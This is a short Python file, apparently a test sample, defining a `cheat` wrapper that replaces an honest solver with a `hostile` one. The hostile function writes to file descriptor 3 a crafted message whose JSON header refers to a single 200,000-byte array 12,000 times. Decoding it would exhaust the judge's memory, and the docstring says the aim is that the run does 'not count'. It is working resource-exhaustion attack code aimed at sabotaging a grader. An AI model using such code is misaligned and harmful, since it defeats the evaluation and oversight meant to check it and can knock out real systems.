"""Refer to one array from a hundred thousand places, so that decoding makes it a hundred thousand times.

Gains: the judge's memory
Must: not count
As: call
"""

import json
import os
import struct


def cheat(honest):
    def hostile(problem):
        size = 200_000
        part = json.dumps({"$a": ["uint8", [size], 0]}, separators=(",", ":"))
        header = ("[" + ",".join([part] * 12_000) + "]").encode()
        body = struct.pack(">I", len(header)) + header + bytes(size)
        whole = b"A" + struct.pack(">Q", len(body)) + body
        while whole:
            whole = whole[os.write(3, whole) :]
        os._exit(0)

    return hostile
